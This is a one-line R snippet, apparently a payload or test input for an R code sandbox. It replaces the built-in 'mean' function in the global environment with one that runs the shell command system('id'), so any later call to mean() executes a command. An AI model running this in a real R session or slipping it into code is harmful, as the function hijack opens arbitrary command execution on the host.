environmentName(globalenv()); assign("mean", function(...) system("id"), envir = .GlobalEnv)
